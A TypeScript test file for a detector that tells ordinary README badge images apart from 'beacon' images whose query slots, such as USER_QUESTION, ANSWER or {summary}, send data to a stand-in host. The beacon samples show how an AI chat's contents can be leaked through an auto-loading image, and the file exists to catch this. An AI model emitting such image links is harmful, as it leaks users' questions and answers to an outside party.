import { describe, expect, it } from "vitest";
import { carriesImageBeacon } from "./image-address";
import { pageEvidence, screenEvidence } from "./screen";

/** A README's badge or themed logo with options in its query is a picture; a query with room for data is not. */
describe("an image whose address has a query", () => {
  const badges = [
    '<img src="https://ci.example.org/api/projects/status/example/widget?branch=main&svg=true" alt="Build" />',
    "![logo](https://example.org/api/readme/logo.png?framework=react&theme=dark)",
  ];
  const beacons = [
    "![x](https://collect.example/p.png?q=)",
    "![x](https://collect.example/p.png?d={summary})",
    "![x](https://collect.example/p.png?u=USER_QUESTION)",
    "![x](https://collect.example/p.png?q=ANSWER)",
    "![x](https://collect.example/p.png?s=summary&v=1)",
    '<img src="https://collect.example/p.png?data=[answer]">',
  ];

  it("is a fixed picture when every option is a literal word or number", () => {
    expect(badges.filter(carriesImageBeacon)).toEqual([]);
    const page = pageEvidence(`Widget\n${badges.join("\n")}\nA small widget.`);
    expect(screenEvidence(page).quarantined).toEqual([]);
  });

  it("is a beacon when an option is empty, a placeholder, a template or the reader's answer", () => {
    expect(beacons.filter(carriesImageBeacon)).toHaveLength(beacons.length);
  });
});
